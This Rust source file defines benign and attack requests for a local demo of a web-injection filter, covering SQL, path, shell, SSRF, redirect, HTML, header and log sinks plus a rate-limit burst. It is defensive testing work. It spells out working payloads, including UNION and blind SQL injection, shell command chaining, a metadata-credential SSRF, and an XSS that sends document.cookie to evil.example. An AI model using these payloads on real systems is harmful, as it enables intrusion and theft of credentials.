//! The scripted requests: for every sink class, benign requests (several
//! of them look-alikes a naive filter would refuse) and real attacks, each
//! with the effect that shows it worked.
//!
//! The order matters in one place: every `POST /login` spends the client
//! address's login budget (a burst of ten), so the key-guessing burst comes
//! last and the benign logins before it stay within the budget.

use std::net::SocketAddr;
use std::path::Path;
use std::time::Duration;

use super::http::{Request, encode};
use super::outcome::{Check, Expected};

/// One row of the demo.
#[derive(Debug, Clone)]
pub(crate) struct Scenario {
    /// The sink class (or `rate limit`).
    pub(crate) class: &'static str,
    /// What the request does, for the table.
    pub(crate) label: String,
    /// Benign or attack.
    pub(crate) expected: Expected,
    /// The requests, sent in order: one, or a burst.
    pub(crate) requests: Vec<Request>,
    /// How success (benign) or the attack's effect is recognised.
    pub(crate) check: Check,
}

/// The shop's own hosts: a `Location` elsewhere is off-site.
const OWN_HOSTS: &[&str] = &["partner.shop.example"];

/// The admin's API key, as the seed data has it.
const ADMIN_KEY: &str = "key-admin-91c2";

/// Ann's API key: her logins succeed, so the redirect is what they test.
const ANN_KEY: &str = "key-ann-7f3a";

/// The forged audit line the log attack writes.
pub(crate) const FORGED_LINE: &str = "t=1764374400 login ok user=admin";

/// Where the stand-ins and the marker are.
#[derive(Debug, Clone)]
pub(crate) struct Setup<'a> {
    /// The avatar CDN stand-in (reached through the shop's avatar host).
    pub(crate) cdn: SocketAddr,
    /// The internal metadata stand-in.
    pub(crate) metadata: SocketAddr,
    /// The file an injected command writes.
    pub(crate) marker: &'a Path,
    /// The shop's avatar host name.
    pub(crate) avatar_host: &'a str,
}

fn get(path: &str, query: &[(&str, &str)]) -> Request {
    let query: Vec<String> = query
        .iter()
        .map(|(k, v)| format!("{k}={}", encode(v)))
        .collect();
    let target = match query.is_empty() {
        true => path.to_owned(),
        false => format!("{path}?{}", query.join("&")),
    };
    Request {
        method: "GET",
        target,
        form: None,
    }
}

fn login(name: &str, key: &str, next: &str) -> Request {
    Request {
        method: "POST",
        target: "/login".to_owned(),
        form: Some(format!(
            "name={}&key={}&next={}",
            encode(name),
            encode(key),
            encode(next)
        )),
    }
}

/// The rows of one sink class, in the order sent.
struct Rows {
    class: &'static str,
    rows: Vec<Scenario>,
}

impl Rows {
    fn new(class: &'static str) -> Rows {
        Rows {
            class,
            rows: Vec::new(),
        }
    }

    /// A request both builds should serve, `check` telling that they did.
    fn benign(self, label: impl Into<String>, request: Request, check: Check) -> Rows {
        self.row(Expected::Benign, label.into(), vec![request], check)
    }

    /// A real attack, `check` recognising its effect.
    fn attack(self, label: impl Into<String>, request: Request, check: Check) -> Rows {
        self.burst(label, vec![request], check)
    }

    /// An attack that takes several requests in a row.
    fn burst(self, label: impl Into<String>, requests: Vec<Request>, check: Check) -> Rows {
        self.row(Expected::Attack, label.into(), requests, check)
    }

    fn row(
        mut self,
        expected: Expected,
        label: String,
        requests: Vec<Request>,
        check: Check,
    ) -> Rows {
        self.rows.push(Scenario {
            class: self.class,
            label,
            expected,
            requests,
            check,
        });
        self
    }
}

/// `GET /search?q=`: the SQL rows' request, whatever the search.
fn search(q: &str) -> Request {
    get("/search", &[("q", q)])
}

/// `GET path?p0=v0&…&p{n-1}=v{n-1}&name=value`: `n` dummy pairs in front of
/// the one the handler reads. Padding like this once pushed the real input
/// past the request context's recording cap, where it went unchecked; every
/// input is checked now, however many come before it.
fn padded(path: &str, n: usize, name: &str, value: &str) -> Request {
    let padding: Vec<(String, String)> =
        (0..n).map(|i| (format!("p{i}"), format!("v{i}"))).collect();
    let mut query: Vec<(&str, &str)> = padding
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    query.push((name, value));
    get(path, &query)
}

/// `GET /profile?name=&bio=`: the HTML rows' request.
fn profile(name: &str, bio: &str) -> Request {
    get("/profile", &[("name", name), ("bio", bio)])
}

/// The heavy query a time-based blind probe runs when its condition on the
/// admin's key holds: SQLite has no `sleep`, so sqlmap-style probes make
/// the database count instead.
/// About 0.8 s on a release build when the condition holds (five times
/// the threshold, for faster machines), 10 ms when not; the rows stay
/// empty either way, so only the clock tells.
const HEAVY: &str = "zzz' OR (CASE WHEN substr((SELECT api_key FROM users WHERE name='admin'),1,9)='key-admin' \
     THEN (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<2000000) SELECT count(*) FROM c) \
     ELSE 0 END) < 0 --";

/// Every scenario, in the order sent.
pub(crate) fn scenarios(setup: &Setup<'_>) -> Vec<Scenario> {
    let avatar = format!(
        "http://{}:{}/avatars/ann.png",
        setup.avatar_host,
        setup.cdn.port()
    );
    let metadata = format!(
        "http://{}/latest/meta-data/iam/security-credentials/",
        setup.metadata
    );
    let metadata_decimal = format!(
        "http://2130706433:{}/latest/meta-data/",
        setup.metadata.port()
    );
    let marker = setup.marker.display().to_string();
    let chained = format!("x; echo pwned > '{marker}'; echo ");
    let guesses = (0..15)
        .map(|n| login("admin", &format!("guess-{n:02}"), "/"))
        .collect();
    let sql = Rows::new("sql")
        .benign("search `kett`", search("kett"), Check::BodyIs(r#"["kettle"]"#))
        .benign(
            "search `tea -- 1=1 OR union select`",
            search("tea -- 1=1 OR union select"),
            Check::Served(200),
        )
        .attack(
            "UNION: `zzz' UNION SELECT api_key FROM users --`",
            search("zzz' UNION SELECT api_key FROM users --"),
            Check::BodyContains(ADMIN_KEY),
        )
        .attack(
            "boolean blind: admin key starts `key-admin`?",
            search(
                "zzz' OR substr((SELECT api_key FROM users WHERE name = 'admin'), 1, 9) = 'key-admin' --",
            ),
            Check::BodyIs(r#"["kettle","teapot","mug"]"#),
        )
        .attack(
            "time-based blind: slow query if admin key matches",
            search(HEAVY),
            Check::SlowerThan(Duration::from_millis(150)),
        )
        .attack(
            "UNION behind 32 dummy query pairs",
            padded("/search", 32, "q", "zzz' UNION SELECT api_key FROM users --"),
            Check::BodyContains(ADMIN_KEY),
        )
        .attack(
            "login bypass: name `admin' --`",
            login("admin' --", "x", "/"),
            Check::LoggedIn,
        );
    let path = Rows::new("path")
        .benign(
            "download `manual.txt`",
            get("/files/manual.txt", &[]),
            Check::BodyIs("kettle manual\n"),
        )
        .attack(
            "traversal: `/files/..%2Fsecret.txt`",
            get("/files/..%2Fsecret.txt", &[]),
            Check::BodyContains("shop secret"),
        );
    let shell = Rows::new("shell")
        .benign(
            "export `march-2026_v2`",
            get("/export", &[("name", "march-2026_v2")]),
            Check::BodyIs("exported\n"),
        )
        .attack(
            "command chaining: `x; echo pwned > MARKER; echo `",
            get("/export", &[("name", &chained)]),
            Check::MarkerWritten,
        )
        .attack(
            "command chaining behind 32 dummy query pairs",
            padded("/export", 32, "name", &chained),
            Check::MarkerWritten,
        );
    let ssrf = Rows::new("ssrf")
        .benign(
            format!("avatar from {}", setup.avatar_host),
            get("/avatar", &[("url", &avatar)]),
            Check::BodyIs("PNG-AVATAR"),
        )
        .attack(
            "avatar from 127.0.0.1 metadata stand-in",
            get("/avatar", &[("url", &metadata)]),
            Check::InternalReached,
        )
        .attack(
            "avatar from `2130706433` (127.0.0.1 as a number)",
            get("/avatar", &[("url", &metadata_decimal)]),
            Check::InternalReached,
        );
    let mut redirect = Rows::new("redirect");
    for next in [
        "/orders?page=2",
        "/welcome?from=https://evil.example",
        "https://partner.shop.example/",
    ] {
        redirect = redirect.benign(
            format!("login, next `{next}`"),
            login("ann", ANN_KEY, next),
            Check::Served(303),
        );
    }
    for next in ["https://evil.example/phish", "//evil.example/"] {
        redirect = redirect.attack(
            format!("open redirect: next `{next}`"),
            login("ann", ANN_KEY, next),
            Check::LocationOffSite(OWN_HOSTS),
        );
    }
    let html = Rows::new("html")
        .benign(
            "profile `Ann & Bob`, bio `I <3 tea; 2 < 3`",
            profile("Ann & Bob", "I <3 tea; 2 < 3"),
            Check::BodyContains("Ann & Bob"),
        )
        .attack(
            "XSS: name `<script>…document.cookie…</script>`",
            profile(
                "Ann<script>fetch('https://evil.example/?c='+document.cookie)</script>",
                "tea",
            ),
            Check::BodyContains("<script>fetch("),
        )
        .attack(
            "XSS: bio `<img src=x onerror=alert(1)>`",
            profile("Ann", "<img src=x onerror=alert(1)>"),
            Check::BodyContains("<img src=x onerror="),
        );
    let header = Rows::new("header")
        .benign(
            "language `pt-BR`",
            get("/lang", &[("lang", "pt-BR")]),
            Check::Served(303),
        )
        .attack(
            "cookie attrs: `en; Domain=shop.example; Max-Age=…`",
            get(
                "/lang",
                &[("lang", "en; Domain=shop.example; Max-Age=315360000")],
            ),
            Check::HeaderContains("set-cookie", "Domain=shop.example"),
        );
    let log = Rows::new("log")
        .benign(
            "failed login as `Zoë<TAB>Neil \\n`",
            login("Zoë\tNeil \\n", "wrong", "/"),
            Check::Served(401),
        )
        .attack(
            "log forging: `bob<LF>t=… login ok user=admin`",
            login(&format!("bob\n{FORGED_LINE}"), "wrong", "/"),
            Check::AuditLine(FORGED_LINE),
        );
    // Last: it spends the rest of the login budget.
    let rate_limit = Rows::new("rate limit").burst(
        "15 key guesses for `admin` in a row",
        guesses,
        Check::Unthrottled,
    );
    [
        sql, path, shell, ssrf, redirect, html, header, log, rate_limit,
    ]
    .into_iter()
    .flat_map(|rows| rows.rows)
    .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn setup() -> Vec<Scenario> {
        scenarios(&Setup {
            cdn: "127.0.0.1:1001".parse().unwrap(),
            metadata: "127.0.0.1:1002".parse().unwrap(),
            marker: Path::new("/tmp/marker"),
            avatar_host: "avatars.shop.example",
        })
    }

    #[test]
    fn every_class_has_a_benign_request_and_an_attack() {
        let all = setup();
        for class in [
            "sql", "path", "shell", "ssrf", "redirect", "html", "header", "log",
        ] {
            for expected in [Expected::Benign, Expected::Attack] {
                assert!(
                    all.iter()
                        .any(|s| s.class == class && s.expected == expected),
                    "{class} has no {} request",
                    expected.as_str()
                );
            }
        }
    }

    #[test]
    fn the_guessing_burst_comes_after_every_other_login() {
        let all = setup();
        let logins: Vec<usize> = all
            .iter()
            .map(|s| s.requests.iter().filter(|r| r.target == "/login").count())
            .collect();
        let (last, before) = logins.split_last().unwrap();
        // The policy's burst is ten per address.
        assert!(before.iter().sum::<usize>() < 10, "{logins:?}");
        assert!(*last > 10, "{logins:?}");
    }
}
